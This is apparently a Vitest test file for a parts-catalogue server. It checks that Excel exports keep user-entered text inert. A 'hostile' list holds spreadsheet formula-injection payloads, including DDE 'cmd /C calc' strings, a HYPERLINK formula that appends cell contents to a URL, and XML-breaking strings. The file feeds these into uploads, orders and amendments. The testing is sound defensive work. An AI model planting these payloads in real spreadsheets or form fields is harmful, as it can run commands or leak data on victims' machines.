import { beforeAll, describe, expect, it } from "vitest";
import * as xlsx from "xlsx";
import type { Body, Wire } from "@caliper/api-client/wire";
import { type CatalogueTable, catalogueTables } from "@caliper/catalogue-model";
import { sharedTestServer } from "../http/testing/server.ts";
import { nameKey } from "../loading/compare/vocabulary.ts";
import { readSheet } from "./testing/read-sheet.ts";

/** Texts that spreadsheets could execute, or that incorrect escaping would change. */
const hostile = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?"&A1,"click")',
  '=DDE("cmd";"/C calc";"x")',
  "=1+1",
  "+1",
  "-1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "|calc",
  "1\t=1+1",
  "1\r=1+1",
  "1\r\n=1+1",
  "1\n=1+1",
  "'=1+1",
  "＝1+1",
  "<f>1+1</f>",
  "]]></t></is></c><c><f>1+1</f></c>",
  "&#61;1+1 &amp; &lt;",
  "_x003D_1+1 _x000D_ _x005F_",
  '"=1+1"',
  "http://example.com",
  "00123",
  "1E5",
  "TRUE",
  "😀 ñ \u0301",
];

/** Those that are different names of brands. */
const names = [...new Map(hostile.map((text) => [nameKey(text), text])).values()];

const batchSize = 500;
let cookie: string;

const server = sharedTestServer();
beforeAll(async () => {
  cookie = await server.cookieOf("admin");
});

type Cell = Wire<"ExcelUpload">["Data"][number][number];

async function file(url: string, payload?: object): Promise<Buffer> {
  const answer = await server.app.inject({
    method: payload ? "POST" : "GET",
    url,
    headers: { cookie },
    ...(payload && { payload }),
  });
  expect([url, answer.statusCode]).toEqual([url, 200]);
  return answer.rawPayload;
}

/** The cells, read by two independent readers; a formula or link fails the test. */
function cellsIn(book: Buffer): Cell[][] {
  const read = xlsx.read(book, { cellFormula: true, cellHTML: false });
  const sheet = read.Sheets[read.SheetNames[0] ?? ""] ?? {};
  for (const [at, cell] of Object.entries(sheet) as [string, xlsx.CellObject][]) {
    if (at.startsWith("!")) continue;
    expect([at, cell.f, cell.l, cell.t === "s" || cell.t === "n"]).toEqual([
      at,
      undefined,
      undefined,
      true,
    ]);
  }
  const rows = xlsx.utils.sheet_to_json<Cell[]>(sheet, { header: 1, defval: null });
  const own = readSheet(book);
  const width = Math.max(...own.map((row) => row.length));
  const filled = (all: Cell[][]) =>
    all.map((row) => Array.from({ length: width }, (_none, index) => row[index] ?? null));
  // SheetJS converts CR LF to LF.
  const asTheLibrary = (cell: Cell) =>
    typeof cell === "string" ? cell.replaceAll("\r\n", "\n") : cell;
  expect(filled(own).map((row) => row.map(asTheLibrary))).toEqual(filled(rows));
  return own;
}

const upload = async (body: Partial<Body<"excelUpload">>) => {
  const { status, body: answer } = await server.call("excelUpload", {
    as: "admin",
    body: { tipo: "partial", ...body },
  });
  expect([status, status === 200 ? "" : answer]).toEqual([200, ""]);
  return answer as Wire<"ExcelUploadAnswer">;
};

/** Columns with free text. */
const isFree = (table: CatalogueTable, name: string) => {
  const column = table.columns.find((one) => one.name === name);
  return (
    column?.type === "text" &&
    column.choices === undefined &&
    !table.references.includes(name) &&
    !["family", "warehouse", "grade", "position", "type"].includes(name)
  );
};

// Accounts are not free text.
const free = catalogueTables.filter(
  (table) => !table.privateTo && table.columns.some(({ name }) => isFree(table, name)),
);

describe("executable texts", () => {
  it("are tested in every table with free text", () => {
    expect(free.length).toBeGreaterThan(8);
  });

  it.each(free.map((table) => [table.wireName, table] as const))(
    "in %s are exported as text and unchanged when uploaded again",
    async (name, table) => {
      const [header = [], ...before] = cellsIn(await file(`/api/descargar-excel/${name}`));
      // A text that identifies a row or names a brand is stored in the spelling of the first such name.
      const areNames = table.columns
        .filter((column) => isFree(table, column.name))
        .some(({ key, names: isName }) => key || isName);
      const given = areNames ? names : hostile;
      // One text per row, in every free column.
      const Data = given.map((text, index) => {
        const row = before[index % before.length] ?? [];
        return table.columns.map((column, at) =>
          isFree(table, column.name) ? text : (row[at] ?? null),
        );
      });
      const Header = header.map(String);
      // Tables with fewer rows than texts are uploaded several times.
      for (let start = 0; start < Data.length; start += Math.max(1, before.length)) {
        await upload({ table_name: name, Header, Data: Data.slice(start, start + before.length) });
      }
      const book = await file(`/api/descargar-excel/${name}`);
      const [, ...after] = cellsIn(book);
      const texts = new Set(after.flat());
      const kept = given.slice(-Math.min(given.length, before.length));
      expect(kept.filter((text) => !texts.has(text))).toEqual([]);
      // Of long tables only the changed rows are uploaded; the imports tests cover whole tables.
      const wanted = new Set<Cell>(given);
      const some = after.filter((row) => row.some((cell) => wanted.has(cell)));
      expect(some.length).toBeGreaterThanOrEqual(kept.length);
      const whole = after.length <= batchSize;
      const upload_id = crypto.randomUUID();
      await upload({
        table_name: name,
        tipo: whole ? "total" : "partial",
        Header,
        Data: whole ? after : some.slice(0, batchSize),
        upload_id,
        preview: true,
      });
      const { state, counts } = await server.ok("getImport", {
        as: "admin",
        path: { id: upload_id },
      });
      expect([state, counts.added, counts.changed, counts.removed, counts.invalid]).toEqual([
        "ready",
        0,
        0,
        0,
        0,
      ]);
    },
  );
});

describe("executable texts in other files", () => {
  const put = (table: string, Header: string[], ...Data: Cell[][]) =>
    upload({ table_name: table, Header, Data });

  it("stay text in the interchange report", async () => {
    await put(
      "intercambios",
      ["Codigo", "Brand", "Interchange"],
      ...names.map((text, index) => ["BR31338", text, `+${index}-1`]),
    );
    const all = cellsIn(await file("/api/dynamic_brakes_reports/?type=0,1,2,3,4,5,6,7"));
    const mine = all.filter(
      ([, code, , , key]) => code === "BR31338" && /^\+\d+-1$/u.test(`${key}`),
    );
    expect(mine.map(([, , , brand]) => String(brand)).toSorted()).toEqual(names.toSorted());
  });

  it("stay text in the file of invalid rows", async () => {
    const upload_id = crypto.randomUUID();
    const Data = hostile.map((text) => ["BR31338", text]);
    const Header = ["XBP", "OUTER_DIAM"];
    await upload({ table_name: "brake_rotors", Header, Data, upload_id, preview: true });
    const [, ...rows] = cellsIn(await file(`/api/v1/imports/${upload_id}/problems`));
    const cells = new Set(rows.flat());
    // Numbers are valid diameters.
    const wrong = hostile.filter((text) => !/^[+-]?\d+$/u.test(text));
    expect(wrong.filter((text) => !cells.has(text))).toEqual([]);
    await server.call("discardImport", { as: "admin", path: { id: upload_id } });
  });

  it("stay text in an order", async () => {
    const [customer = "", note = ""] = hostile;
    const customerCode = "=1+1";
    const { body: account } = await server.call("createAccount", {
      as: "admin",
      body: { username: customer, level: "CLIENTE", warehouses: ["MIAMI"], customerCode },
    });
    expect(account).toMatchObject({ account: { username: customer, customerCode } });
    const query = { step: 0, user: customer, warehouse: "MIAMI", type: "Brake Drums" };
    const drums = await server.ok("buyOrderPriceInfo", {
      as: "admin",
      query,
    });
    const order = await file("/api/buy_order_file", {
      Header: {
        username: customer,
        warehouse: "MIAMI",
        category: "",
        subcategory: "",
        note: `${note}\r\n\t${hostile.join("\n")}`,
        addedCategories: [],
        userInfo: { Cliente: customer, Codigo: customerCode },
      },
      Products: drums.slice(0, hostile.length),
    });
    const rows = cellsIn(order);
    expect(rows[2]).toEqual(["Customer", customer, "Code", customerCode]);
    expect(rows[4]).toEqual(["Note", `${note}\r\n\t${hostile.join("\n")}`]);
    expect(rows[7]?.[1]).toBe(drums[0]?.Description);
  });

  it("stay text in an applied amendment", async () => {
    const suggested = "=HYPERLINK(1)";
    const { report_id } = await server.ok("insertAmendments", {
      as: "cliente",
      body: {
        user: "cliente",
        email: "=1+1@example.com",
        subject: "Specification",
        message: "=cmd|' /C calc'!A0",
        product: "BR31338",
        field: "DWG",
        suggested,
      },
    });
    await server.ok("applyAmendment", { as: "admin", path: { id: String(report_id) } });
    const rows = cellsIn(await file("/api/descargar-excel/brake_rotors"));
    expect(rows.find(([code]) => code === "BR31338")).toContain(suggested);
  });
});
